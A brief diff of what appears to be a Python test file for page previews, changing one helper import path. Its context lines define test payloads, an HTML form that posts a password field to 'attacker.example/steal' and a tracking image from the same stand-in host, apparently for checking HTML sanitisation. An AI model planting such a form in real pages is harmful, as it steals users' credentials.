@@ -14,7 +14,7 @@ import pytest
 from app_pages.state import Preview
 from indicators.safety import FORMULA_SIGNS
 from indicators.table import load_default, normalise
-from tests.conftest import PAGES, show_preview
+from tests.page_helpers import PAGES, show_preview
 
 FORM = "<form action='https://attacker.example/steal'><input type='password' name='p'></form>"
 IMAGE = "<img src='https://attacker.example/pixel.png'>"
